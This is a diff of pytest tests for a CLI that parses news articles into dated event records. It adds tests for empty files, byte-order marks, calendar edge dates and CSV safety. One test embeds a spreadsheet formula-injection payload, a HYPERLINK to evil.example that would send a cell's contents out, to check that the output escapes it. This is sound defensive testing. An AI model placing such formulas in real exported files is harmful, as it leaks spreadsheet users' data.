@@ -168,13 +168,10 @@ def test_parse_bad_metadata(capsys, files) -> None:
     assert code == 1 and "metadata" in err
 
 
-def test_parse_empty_file_gives_no_events(capsys, files) -> None:
-    code, out, _ = run(capsys, "parse", str(files["empty"]), "--published", "2013-06-05",
-                       "--format", "csv")
-    assert code == 0
-    assert list(csv.DictReader(io.StringIO(out))) == []
-    code, out, _ = run(capsys, "parse", str(files["empty"]), "--published", "2013-06-05")
-    assert json.loads(out)["features"] == []
+def test_parse_empty_file_is_refused(capsys, files) -> None:
+    code, out, err = run(capsys, "parse", str(files["empty"]), "--published", "2013-06-05",
+                         "--format", "csv")  # fmt: skip
+    assert (code, out) == (1, "") and "empty" in err
 
 
 def test_parse_bad_date_is_a_usage_error(capsys, files) -> None:
@@ -208,11 +205,11 @@ def test_parse_one_megabyte_in_bounded_time(capsys, tmp_path) -> None:
     body = load_seed_article().body + "\n\n"  # not the reader's comment: it ends the body
     big = tmp_path / "big.txt"
     big.write_text(body * (1_000_000 // len(body) + 1), encoding="utf-8")
-    t0 = time.perf_counter()
+    t0 = time.process_time()  # CPU time: a busy machine must not fail it
     code, out, _ = run(capsys, "parse", str(big), "--published", "2013-06-05",
                        "--format", "csv")
-    elapsed = time.perf_counter() - t0
-    print(f"\nparse of 1 MB: {elapsed:.1f} s")
+    elapsed = time.process_time() - t0
+    print(f"\nparse of 1 MB: {elapsed:.1f} s of CPU")
     assert code == 0 and len(out.splitlines()) > 1000
     assert elapsed < 60  # about 5 s here; a scan per sentence made it minutes
 
@@ -233,3 +230,67 @@ def test_toponyms_loads_the_geoparser_once(capsys, files, monkeypatch) -> None:
     assert len(made) == 1  # one gazetteer and model for all the files
     code, out, _ = run(capsys, "toponyms", str(files["missing"]), str(files["binary"]))
     assert len(made) == 1  # nothing readable: nothing loaded
+
+
+# --- issue 9: hostile and odd inputs --------------------------------------------------
+
+
+@pytest.mark.parametrize("content", [b"", b"   \n\t\r\n  ", b"\xef\xbb\xbf  \n"])
+def test_parse_refuses_an_empty_file_with_a_message(capsys, tmp_path, content) -> None:
+    path = tmp_path / "blank.txt"
+    path.write_bytes(content)
+    code, out, err = run(capsys, "parse", str(path), "--published", "2013-06-05")
+    assert code == 1 and out == ""
+    assert "empty" in err and str(path) in err
+
+
+def test_parse_drops_a_bom_from_title_and_excerpt(capsys, tmp_path) -> None:
+    path = tmp_path / "bom.txt"
+    path.write_bytes(b"\xef\xbb\xbfThe army shelled Homs on Monday.\n")
+    code, out, _ = run(capsys, "parse", str(path), "--published", "2013-06-05",
+                       "--format", "csv")  # fmt: skip
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert code == 0 and rows
+    assert all(not r["excerpt"].startswith("\ufeff") for r in rows)
+    assert rows[0]["excerpt"].startswith("The army")
+    geojson = run(capsys, "parse", str(path), "--published", "2013-06-05", "--format", "kml")[1]
+    assert "\ufeff" not in geojson  # the KML's name holds the title
+
+
+def test_parse_writes_spreadsheet_safe_csv(capsys, tmp_path) -> None:
+    path = tmp_path / "formula.txt"
+    path.write_text(
+        'Headline\n\n=HYPERLINK("http://evil.example/?d="&A2,"open")&" Fighting in Homs" '
+        "on Monday.\n",
+        encoding="utf-8",
+    )
+    code, out, _ = run(capsys, "parse", str(path), "--published", "2013-06-05",
+                       "--format", "csv")  # fmt: skip
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert code == 0 and rows
+    assert all(not r["excerpt"].startswith("=") for r in rows)
+    assert any(r["excerpt"].startswith("'=HYPERLINK") for r in rows)
+
+
+@pytest.mark.parametrize(
+    ("published", "phrase"), [("9999-12-31", "tomorrow"), ("0001-01-01", "yesterday")]
+)
+def test_parse_at_the_ends_of_the_calendar_has_no_traceback(capsys, tmp_path, published,
+                                                             phrase) -> None:  # fmt: skip
+    path = tmp_path / "edge.txt"
+    path.write_text(f"Fighting in Homs {phrase}.\n", encoding="utf-8")
+    code, out, err = run(capsys, "parse", str(path), "--published", published,
+                         "--format", "csv")  # fmt: skip
+    assert code == 0 and "Traceback" not in err
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert all(len(r["start"]) == 10 for r in rows)
+
+
+def test_parse_writes_four_digit_years(capsys, tmp_path) -> None:
+    path = tmp_path / "monday.txt"
+    path.write_text("The army shelled Homs on Monday.\n", encoding="utf-8")
+    code, out, _ = run(capsys, "parse", str(path), "--published", "0001-01-01",
+                       "--format", "csv")  # fmt: skip
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert code == 0 and rows
+    assert rows[0]["start"] == "0001-01-01" and rows[0]["end"] == "0001-01-01"
